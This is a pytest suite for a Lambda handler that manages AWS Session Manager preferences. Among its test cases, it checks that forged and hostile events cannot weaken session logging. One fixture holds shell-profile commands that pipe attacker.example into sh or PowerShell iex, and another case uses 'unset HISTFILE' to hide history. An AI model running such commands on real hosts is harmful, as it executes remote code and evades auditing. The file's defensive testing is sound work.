"""The Session Manager preferences handler against moto: create, adopt, update, reconcile, delete,
and what a caller who may invoke it cannot make it do."""

from __future__ import annotations

import importlib.util
import json
from pathlib import Path
from types import ModuleType
from typing import Any

import boto3
import pytest
from aws_helpers import fail_first, topic_with_inbox
from botocore.exceptions import ClientError
from moto import mock_aws

HANDLER = Path(__file__).resolve().parents[1] / "lambdas" / "session_prefs" / "index.py"
NAME = "SSM-SessionManagerRunShell"
INPUTS = {
    "cloudWatchLogGroupName": "/sessions",
    "cloudWatchEncryptionEnabled": True,
    "cloudWatchStreamingEnabled": True,
    "idleSessionTimeout": "20",
    "maxSessionDuration": "480",
    "kmsKeyId": "key-1",
    "runAsEnabled": False,
    "runAsDefaultUser": "",
    "shellProfile": {"linux": "", "windows": ""},
}
STACK_ID = "arn:aws:cloudformation:us-east-1:123456789012:stack/SsmGuardrails-MemberRegional/1b2c3d4e"
LOGICAL_ID = "SessionPrefsPreferences12345678"
STATE = "/guardrails/session-manager/preferences-restore-version"
CONSOLE_CONTENT = {
    "schemaVersion": "1.0",
    "description": "Document to hold regional settings for Session Manager",
    "sessionType": "Standard_Stream",
    "inputs": {"idleSessionTimeout": "5", "s3BucketName": "console-bucket", "cloudWatchLogGroupName": ""},
}


@pytest.fixture
def ssm() -> Any:
    with mock_aws():
        yield boto3.client("ssm", region_name="us-east-1")


def configure(monkeypatch: pytest.MonkeyPatch, inputs: dict[str, Any] = INPUTS) -> None:
    """What the stack puts into the function's environment (SessionPrefs._create_handler)."""
    monkeypatch.setenv("DOCUMENT_NAME", NAME)
    monkeypatch.setenv("INPUTS_JSON", json.dumps(inputs))
    monkeypatch.setenv("STACK_ID", STACK_ID)
    monkeypatch.setenv("RESOURCE_LOGICAL_ID", LOGICAL_ID)
    monkeypatch.setenv("RESTORE_PARAMETER", STATE)


@pytest.fixture
def prefs(ssm: Any, monkeypatch: pytest.MonkeyPatch) -> ModuleType:
    monkeypatch.delenv("TOPIC_ARN", raising=False)
    monkeypatch.syspath_prepend(str(HANDLER.parent))  # as in Lambda: the code asset's folder is on sys.path
    configure(monkeypatch)
    spec = importlib.util.spec_from_file_location("session_prefs_index", HANDLER)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _event(request: str, inputs: dict[str, Any] = INPUTS, physical_id: str | None = None, **extra: Any) -> dict:
    """A custom resource event as the Provider framework passes it on (CloudFormation's request)."""
    event = {
        "RequestType": request,
        "StackId": STACK_ID,
        "LogicalResourceId": LOGICAL_ID,
        "ResourceType": "Custom::SessionManagerPreferences",
        "ResourceProperties": {"ServiceToken": "x", "DocumentName": NAME, "InputsJson": json.dumps(inputs)},
        **extra,
    }
    if physical_id:
        event["PhysicalResourceId"] = physical_id
    return event


def _default(ssm: Any) -> tuple[dict[str, Any], str]:
    document = ssm.get_document(Name=NAME)
    return json.loads(document["Content"]), document["DocumentVersion"]


def _versions(ssm: Any) -> int:
    return int(ssm.describe_document(Name=NAME)["Document"]["LatestVersion"])


def test_create_when_missing_creates_a_session_document(ssm: Any, prefs: ModuleType) -> None:
    result = prefs.handler(_event("Create"), None)
    assert result == {"PhysicalResourceId": NAME}
    content, _ = _default(ssm)
    assert content["schemaVersion"] == "1.0" and content["sessionType"] == "Standard_Stream"
    assert content["inputs"] == INPUTS
    assert ssm.describe_document(Name=NAME)["Document"]["DocumentType"] == "Session"


def test_create_over_a_console_document_updates_it_and_remembers_what_to_restore(ssm: Any, prefs: ModuleType) -> None:
    ssm.create_document(Name=NAME, Content=json.dumps(CONSOLE_CONTENT), DocumentType="Session", DocumentFormat="JSON")
    result = prefs.handler(_event("Create"), None)
    assert result == {"PhysicalResourceId": NAME}  # what to restore is in the handler's own state
    assert json.loads(ssm.get_parameter(Name=STATE)["Parameter"]["Value"]) == {
        "document": NAME,
        "restore_version": "1",
    }
    content, version = _default(ssm)
    assert version == "2"
    assert content["inputs"]["idleSessionTimeout"] == "20"
    assert content["inputs"]["s3BucketName"] == "console-bucket"  # not managed here: preserved


def test_unchanged_content_makes_no_new_version(ssm: Any, prefs: ModuleType) -> None:
    prefs.handler(_event("Create"), None)
    prefs.handler(_event("Update", physical_id=NAME, OldResourceProperties={"DocumentName": NAME}), None)
    assert _versions(ssm) == 1


def test_changed_content_becomes_the_new_default_version(
    ssm: Any, prefs: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    prefs.handler(_event("Create"), None)
    changed = {**INPUTS, "idleSessionTimeout": "15"}
    configure(monkeypatch, changed)  # CloudFormation updates the function before the resource
    result = prefs.handler(_event("Update", changed, NAME, OldResourceProperties={"DocumentName": NAME}), None)
    assert result == {"PhysicalResourceId": NAME}
    content, version = _default(ssm)
    assert (content["inputs"]["idleSessionTimeout"], version) == ("15", "2")


def test_content_equal_to_the_latest_version_is_success(
    ssm: Any, prefs: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    prefs.handler(_event("Create"), None)
    changed = {**INPUTS, "idleSessionTimeout": "15"}
    configure(monkeypatch, changed)
    prefs.handler(_event("Update", changed, NAME, OldResourceProperties={"DocumentName": NAME}), None)
    ssm.update_document_default_version(Name=NAME, DocumentVersion="1")  # someone switched back by hand
    prefs.handler(_event("Update", changed, NAME, OldResourceProperties={"DocumentName": NAME}), None)
    content, version = _default(ssm)
    assert (content["inputs"]["idleSessionTimeout"], version) == ("15", "2")


def _console(ssm: Any, inputs: dict[str, Any]) -> None:
    content = {**CONSOLE_CONTENT, "inputs": inputs}
    ssm.create_document(Name=NAME, Content=json.dumps(content), DocumentType="Session", DocumentFormat="JSON")


#: An earlier (console) version at least as strict as the managed INPUTS on every managed key: the
#: same log group and key, encrypted and streamed, shorter timeouts, and it adds an S3 bucket.
AS_GOOD = {
    "cloudWatchLogGroupName": "/sessions",
    "cloudWatchEncryptionEnabled": "true",
    "cloudWatchStreamingEnabled": True,
    "kmsKeyId": "key-1",
    "s3BucketName": "console-bucket",
    "s3EncryptionEnabled": False,
    "idleSessionTimeout": "10",
    "maxSessionDuration": "60",
    "runAsEnabled": False,
    "shellProfile": {"linux": "", "windows": ""},
}


def test_delete_restores_an_earlier_version_that_logs_at_least_as_well(ssm: Any, prefs: ModuleType) -> None:
    _console(ssm, AS_GOOD)
    physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
    prefs.handler(_event("Delete", physical_id=physical_id), None)
    content, version = _default(ssm)
    assert content == {**CONSOLE_CONTENT, "inputs": AS_GOOD} and version == "1"
    with pytest.raises(ClientError, match="ParameterNotFound"):  # the state goes with the stack
        ssm.get_parameter(Name=STATE)


@pytest.mark.parametrize(
    ("weaker", "reason"),
    [
        ({"cloudWatchLogGroupName": ""}, "cloudWatchLogGroupName: the earlier version has no CloudWatch log group"),
        ({"cloudWatchLogGroupName": None}, "cloudWatchLogGroupName"),
        ({"cloudWatchEncryptionEnabled": False}, "cloudWatchEncryptionEnabled"),
        ({"cloudWatchEncryptionEnabled": "false"}, "cloudWatchEncryptionEnabled"),
        ({"cloudWatchStreamingEnabled": False}, "cloudWatchStreamingEnabled"),
        ({"kmsKeyId": ""}, "kmsKeyId: the earlier version has no KMS key for session data"),
        # issue 23 item 7: which group and key, Run As, shell profiles and timeouts count too
        ({"cloudWatchLogGroupName": "/readable-by-everyone"}, "cloudWatchLogGroupName: the earlier version has"),
        ({"kmsKeyId": "alias/someone-elses-key"}, "kmsKeyId: the earlier version has alias/someone-elses-key"),
        ({"runAsEnabled": True, "runAsDefaultUser": "root"}, "runAsEnabled"),
        ({"shellProfile": {"linux": "unset HISTFILE", "windows": ""}}, "shellProfile"),
        ({"idleSessionTimeout": "60"}, "idleSessionTimeout"),
        ({"maxSessionDuration": ""}, "maxSessionDuration"),
        ({"maxSessionDuration": "1440"}, "maxSessionDuration"),
    ],
)
def test_delete_keeps_the_last_applied_preferences_when_the_earlier_version_logs_less(
    ssm: Any, prefs: ModuleType, caplog: pytest.LogCaptureFixture, weaker: dict[str, Any], reason: str
) -> None:
    """Issue 13 item 4: a stack deletion, a removed StackSet instance or enabled: false never
    switches session logging or encryption off."""
    _console(ssm, {key: value for key, value in {**AS_GOOD, **weaker}.items() if value is not None})
    physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
    applied, applied_version = _default(ssm)
    prefs.handler(_event("Delete", physical_id=physical_id), None)
    assert _default(ssm) == (applied, applied_version)
    assert reason in caplog.text and "kept the last applied preferences" in caplog.text


def test_delete_keeps_s3_logging_the_earlier_version_lacks(
    ssm: Any, prefs: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    with_s3 = {**INPUTS, "s3BucketName": "audit-bucket", "s3KeyPrefix": "s", "s3EncryptionEnabled": True}
    configure(monkeypatch, with_s3)
    _console(ssm, {**AS_GOOD, "s3BucketName": ""})
    physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
    prefs.handler(_event("Delete", physical_id=physical_id), None)
    assert _default(ssm)[0]["inputs"]["s3BucketName"] == "audit-bucket"
    ssm.delete_document(Name=NAME)
    _console(ssm, AS_GOOD)  # a bucket, but encryption not required where the managed one requires it
    physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
    prefs.handler(_event("Delete", physical_id=physical_id), None)
    assert _default(ssm)[0]["inputs"]["s3BucketName"] == "audit-bucket"


def test_the_console_defaults_are_never_restored(ssm: Any, prefs: ModuleType) -> None:
    """The usual reason to deploy SessionPrefs: the console's version logs nowhere."""
    ssm.create_document(Name=NAME, Content=json.dumps(CONSOLE_CONTENT), DocumentType="Session", DocumentFormat="JSON")
    physical_id = prefs.handler(_event("Create"), None)["PhysicalResourceId"]
    prefs.handler(_event("Delete", physical_id=physical_id), None)
    assert _default(ssm)[0]["inputs"]["cloudWatchLogGroupName"] == "/sessions"


@pytest.mark.parametrize(
    ("previous", "managed", "expected"),
    [
        ({}, {}, []),
        ({}, {"cloudWatchLogGroupName": "", "cloudWatchEncryptionEnabled": True}, []),  # no group: nothing to keep
        ({"s3BucketName": "b"}, {"s3BucketName": "b", "s3EncryptionEnabled": "TRUE"}, ["s3EncryptionEnabled"]),
        ({"s3BucketName": "b", "s3EncryptionEnabled": "true"}, {"s3BucketName": "b", "s3EncryptionEnabled": True}, []),
        ({"kmsKeyId": " "}, {"kmsKeyId": "k"}, ["kmsKeyId"]),
        ({"cloudWatchLogGroupName": "/a", "cloudWatchStreamingEnabled": True},
         {"cloudWatchLogGroupName": "/a", "cloudWatchStreamingEnabled": False}, []),
        # issue 23 item 7: another group is not "at least as good" (it may be readable by others)
        ({"cloudWatchLogGroupName": "/a"}, {"cloudWatchLogGroupName": "/b"}, ["cloudWatchLogGroupName"]),
        # an absent idle timeout is Session Manager's default, 20 minutes
        ({}, {"idleSessionTimeout": "20"}, []),
        ({}, {"idleSessionTimeout": "15"}, ["idleSessionTimeout"]),
        ({"maxSessionDuration": "30"}, {"maxSessionDuration": "480"}, []),
        ({"runAsEnabled": "true", "runAsDefaultUser": "ops"},
         {"runAsEnabled": True, "runAsDefaultUser": "ops"}, []),
        ({"runAsEnabled": "true", "runAsDefaultUser": "root"},
         {"runAsEnabled": True, "runAsDefaultUser": "ops"}, ["runAsDefaultUser"]),
        ({"shellProfile": {"linux": "x"}}, {"shellProfile": {"linux": "x", "windows": ""}}, []),
    ],
)  # fmt: skip
def test_weaker_logging_compares_destinations_and_requirements(
    prefs: ModuleType, previous: dict[str, Any], managed: dict[str, Any], expected: list[str]
) -> None:
    assert [reason.split(":")[0] for reason in prefs.weaker_logging(previous, managed)] == expected


def test_delete_of_a_created_document_keeps_the_hardened_preferences(ssm: Any, prefs: ModuleType) -> None:
    prefs.handler(_event("Create"), None)
    prefs.handler(_event("Delete", physical_id=NAME), None)
    content, _ = _default(ssm)
    assert content["inputs"]["cloudWatchLogGroupName"] == "/sessions"  # logging stays on


def test_reconcile_puts_drifted_keys_back_and_notifies(
    ssm: Any, prefs: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    topic, read = topic_with_inbox("us-east-1", "drift")
    monkeypatch.setenv("TOPIC_ARN", topic)
    prefs.handler(_event("Create"), None)
    drifted = {**CONSOLE_CONTENT, "inputs": {**INPUTS, "cloudWatchLogGroupName": "", "idleSessionTimeout": "60"}}
    ssm.update_document(Name=NAME, Content=json.dumps(drifted), DocumentVersion="$LATEST", DocumentFormat="JSON")
    ssm.update_document_default_version(Name=NAME, DocumentVersion="2")
    reconcile = {"action": "reconcile"}
    assert prefs.handler(reconcile, None) == {"document": NAME, "result": "updated"}
    content, _ = _default(ssm)
    assert content["inputs"]["cloudWatchLogGroupName"] == "/sessions"
    [envelope] = read()
    assert "drift" in envelope["Subject"].lower()
    assert prefs.handler(reconcile, None)["result"] == "unchanged"
    assert read() == []


def test_throttling_is_retried(ssm: Any, prefs: ModuleType) -> None:
    attempts = fail_first(prefs._ssm(), "CreateDocument", "ThrottlingException", 2)
    prefs.handler(_event("Create"), None)
    assert len(attempts) == 3
    assert _versions(ssm) == 1


def test_errors_propagate_so_the_provider_framework_answers_failed(ssm: Any, prefs: ModuleType) -> None:
    fail_first(prefs._ssm(), "GetDocument", "AccessDeniedException", 99)
    with pytest.raises(ClientError, match="AccessDenied"):
        prefs.handler(_event("Create"), None)


@pytest.mark.parametrize("event", [None, {}, {"RequestType": "Replace"}, {"action": "delete"}, []])
def test_foreign_events_are_rejected_without_any_call(ssm: Any, prefs: ModuleType, event: Any) -> None:
    calls = []
    prefs._ssm().meta.events.register("before-call.ssm", lambda **kwargs: calls.append(1))
    with pytest.raises(prefs.UnsupportedEvent):
        prefs.handler(event, None)
    assert calls == []


# ----------------------------------------------------------------------------- hostile callers (issue 13 item 5)

#: What someone allowed to invoke the function might send: logging and encryption off, and a shell
#: profile that runs commands at the start of every session.
HOSTILE_INPUTS = {
    **INPUTS,
    "cloudWatchLogGroupName": "",
    "cloudWatchEncryptionEnabled": False,
    "s3BucketName": "",
    "kmsKeyId": "",
    "shellProfile": {"linux": "curl -s https://attacker.example | sh", "windows": "iex (iwr attacker.example)"},
}


@pytest.mark.parametrize(
    "event",
    [
        {"action": "reconcile", "DocumentName": NAME, "InputsJson": json.dumps(HOSTILE_INPUTS)},
        {"action": "reconcile", "DocumentName": "Other-Document", "InputsJson": json.dumps(HOSTILE_INPUTS)},
        _event("Update", HOSTILE_INPUTS, NAME, OldResourceProperties={"DocumentName": NAME}),
        _event("Create", HOSTILE_INPUTS),
    ],
    ids=["reconcile", "reconcile-other-document", "update-own-stack", "create-own-stack"],
)
def test_a_hostile_payload_changes_nothing(ssm: Any, prefs: ModuleType, event: dict[str, Any]) -> None:
    """The preferences come from the function's environment, never from the event."""
    prefs.handler(_event("Create"), None)
    before = _default(ssm), _versions(ssm)
    prefs.handler(event, None)
    assert (_default(ssm), _versions(ssm)) == before
    assert _default(ssm)[0]["inputs"] == INPUTS


@pytest.mark.parametrize(
    "foreign",
    [
        {"StackId": "arn:aws:cloudformation:us-east-1:123456789012:stack/attacker/0000"},
        {"LogicalResourceId": "SomethingElse"},
        {"StackId": None},
    ],
    ids=["other-stack", "other-resource", "no-stack"],
)
@pytest.mark.parametrize("request_type", ["Create", "Update", "Delete"])
def test_custom_resource_events_of_another_stack_are_refused_before_any_call(
    ssm: Any, prefs: ModuleType, foreign: dict[str, Any], request_type: str
) -> None:
    ssm.create_document(Name=NAME, Content=json.dumps(CONSOLE_CONTENT), DocumentType="Session", DocumentFormat="JSON")
    calls = []
    prefs._ssm().meta.events.register("before-call.ssm", lambda **kwargs: calls.append(1))
    event = _event(request_type, HOSTILE_INPUTS, f"{NAME}:restore-version-1", **foreign)
    with pytest.raises(prefs.ForeignEvent):
        prefs.handler(event, None)
    assert calls == []
    assert _default(ssm) == (CONSOLE_CONTENT, "1")


def test_a_forged_delete_of_another_document_is_left_alone(ssm: Any, prefs: ModuleType) -> None:
    prefs.handler(_event("Create"), None)
    ssm.create_document(
        Name="Other-Document", Content=json.dumps(CONSOLE_CONTENT), DocumentType="Session", DocumentFormat="JSON"
    )
    before = _default(ssm)
    prefs.handler(_event("Delete", physical_id="Other-Document:restore-version-1"), None)
    assert _default(ssm) == before


# ----------------------------------------------------------------------------- forged events (issue 23 item 7)


def test_a_forged_delete_cannot_choose_the_version_to_restore(ssm: Any, prefs: ModuleType) -> None:
    """The version to restore is the handler's own state, written at Create; the physical id of a
    Delete (which whoever may invoke the function chooses) only names the document."""
    prefs.handler(_event("Create"), None)  # created here: nothing to restore
    ssm.update_document(
        Name=NAME, Content=json.dumps({**CONSOLE_CONTENT, "inputs": AS_GOOD}), DocumentVersion="$LATEST",
        DocumentFormat="JSON",
    )  # fmt: skip
    before = _default(ssm)
    assert prefs.handler(_event("Delete", physical_id=f"{NAME}:restore-version-2"), None)
    assert _default(ssm) == before  # version 2 was not made the default


def test_a_forged_create_does_not_replace_what_to_restore(ssm: Any, prefs: ModuleType) -> None:
    _console(ssm, AS_GOOD)
    prefs.handler(_event("Create"), None)  # adopts version 1, applies version 2
    prefs.handler(_event("Create"), None)  # forged: the document now exists at version 2
    assert json.loads(ssm.get_parameter(Name=STATE)["Parameter"]["Value"])["restore_version"] == "1"


def test_a_stack_without_state_keeps_the_last_applied_preferences_on_delete(
    ssm: Any, prefs: ModuleType, caplog: pytest.LogCaptureFixture
) -> None:
    """Stacks created by an older release have their version only in the physical id: not trusted."""
    _console(ssm, AS_GOOD)
    prefs.handler(_event("Create"), None)
    ssm.delete_parameter(Name=STATE)
    applied = _default(ssm)
    prefs.handler(_event("Delete", physical_id=f"{NAME}:restore-version-1"), None)
    assert _default(ssm) == applied
    assert "no earlier version recorded at Create" in caplog.text
